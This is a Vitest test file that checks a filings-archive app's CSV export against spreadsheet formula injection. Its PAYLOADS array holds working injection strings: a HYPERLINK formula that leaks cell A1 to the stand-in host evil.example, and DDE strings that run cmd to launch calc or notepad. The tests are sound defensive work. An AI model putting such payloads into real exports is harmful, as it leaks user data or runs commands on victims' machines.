import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportCsv } from '../../../../src/main/core/export/export-csv';
import { EXPORT_COLUMNS } from '../../../../src/shared/api/types';
import { FORMULA_START } from './expected-cells';
import { readCsv, useIndexedArchive } from './helpers';
import { hostileSubmission } from './hostile-filing';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

/** A word found only in the hostile filings, next to the payload so the snippet opens with it. */
const MARKER = 'zanzibarquux';

/** Writes one hostile filing per payload into `dir`/filings. */
function writeHostileFilings(dir: string): string[] {
  const filings = join(dir, 'filings');
  mkdirSync(filings);
  PAYLOADS.forEach((payload, i) => {
    const accession = `0000999999-04-00000${i + 1}`;
    const text = `${payload} ${MARKER}`;
    const submission = hostileSubmission({
      accession,
      cik: `000099999${i}`,
      companyName: payload,
      description: payload,
      text,
    });
    writeFileSync(join(filings, `${accession}.txt`), submission);
  });
  return [filings];
}

describe('export neutralises formula injection from indexed filings', () => {
  const archive = useIndexedArchive(writeHostileFilings);

  it('indexes every hostile filing', () => {
    expect(archive().summary.filings).toBe(PAYLOADS.length);
  });

  it('prefixes each hostile company name and snippet with a quote, and keeps it readable', async () => {
    const { db, dir } = archive();
    const out = join(dir, 'hostile.csv');
    const { rows } = await exportCsv(
      db,
      { query: MARKER, sort: 'company', columns: ['companyName', 'snippet', 'accessionNumber'], bom: false },
      out,
    );
    expect(rows).toBe(PAYLOADS.length);
    const records = readCsv(out).slice(1);
    expect(records.map(([name]) => name).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    for (const [name, snippet] of records) {
      expect(name.startsWith("'")).toBe(true);
      expect(PAYLOADS).toContain(name.slice(1));
      // The snippet is cut from the document text, which opens with the payload.
      expect(snippet.startsWith("'")).toBe(true);
      expect(snippet.slice(1)).toContain(name.slice(1));
    }
  });

  it('leaves no text cell of a full export starting with a formula character', async () => {
    const { db, dir } = archive();
    const out = join(dir, 'all.csv');
    await exportCsv(db, { query: '', columns: [...EXPORT_COLUMNS], bom: true }, out);
    const records = readCsv(out).slice(1);
    expect(records).toHaveLength(PAYLOADS.length);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(FORMULA_START);
  });
});
